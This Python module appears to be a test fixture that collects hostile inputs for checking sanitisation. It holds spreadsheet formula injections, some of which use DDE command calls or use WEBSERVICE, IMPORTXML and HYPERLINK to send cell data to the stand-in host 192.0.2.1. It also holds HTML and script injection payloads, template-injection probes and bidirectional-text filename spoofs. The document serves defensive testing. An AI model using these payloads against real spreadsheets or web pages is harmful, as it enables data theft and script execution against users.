"""Texts that want to be more than text: formulas for spreadsheets, markup and marks for pages."""

from __future__ import annotations

MARKER = "sr-injected"
"""The element, attribute or dialog of this name must never come to be on a page."""

_CALLS = (
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    '=IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1+A1",
    "\uff20SUM(A1)",
    "\ufe661+1",
    "%0A-2+3",
    "|calc",
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', "' ", '""', "\u00a0\t ")


def formulas() -> tuple[str, ...]:
    """208 cells of which each would run in some spreadsheet."""
    return tuple(before + call for call in _CALLS for before in _BEFORE)


SECOND_CELLS = tuple(f"harmless{mark}{call}" for mark in (";", ';"', "\t", "\r\n") for call in _CALLS[:9])
"""Cells that hold a second one where a spreadsheet parts at semicolons, tabs or line ends."""

NUMBERS = ("-1", "-12.50", "-1,234.50", "-1.234,50", "-1'234.50", "-5%", "0", "12.50", "1e5")
PLAIN = ("ACME", "a-b", "a=b", "info@example.org", "Total: 5", "(3)", "Müller & Söhne", "5 % off", "")

_SCRIPT = f"document.documentElement.setAttribute('{MARKER}','1')"
_MARKUP = (
    f"<script>{_SCRIPT}</script>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<svg onload={_SCRIPT}>",
    f"<{MARKER}>",
    f"</title><{MARKER}>",
    f"</textarea><{MARKER}>",
    f"</script><{MARKER}>",
    f"</style><{MARKER}>",
    f"--><{MARKER}><!--",
    f"]]><{MARKER}>",
    f'"><{MARKER}>',
    f"'><{MARKER}>",
    f'" {MARKER}=1 x="',
    f"' {MARKER}=1 x='",
    f"x {MARKER}=1",
    f'" onmouseover="{_SCRIPT}',
    f'" autofocus onfocus="{_SCRIPT}',
    f'" hx-on:load="{_SCRIPT}',
    f'" hx-get="/?{MARKER}',
    f"<iframe srcdoc='<{MARKER}>'>",
    f'<a href="javascript:{_SCRIPT}">open</a>',
    "javascript:alert(1)",
    "<meta http-equiv=refresh content=0;url=http://192.0.2.1/>",
    "<base href=http://192.0.2.1/>",
    "<form action=http://192.0.2.1/><input name=x>",
    "<style>*{display:none}</style>",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(1)}`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
_AROUND = ("{}", "scan{}.pdf", "\u202e{}\u202c")
_MARKS = (
    "\u202egpj.exe",
    "\u2066\u2067\u2068",
    "a\u0300" * 60,
    "\u200b" * 40,
    "\U0001f9e8" * 30,
    "\ufffd\ufeff",
    "e\u0301\u20dd",
)


def markup() -> tuple[str, ...]:
    """103 texts that would be more than text on a page that trusts them. They show nothing, they leave the marker."""
    return (*(around.format(text) if "{}" in around else text for around in _AROUND for text in _MARKUP), *_MARKS)


LONG = "W" * 255
"""No blank where a line could be broken."""
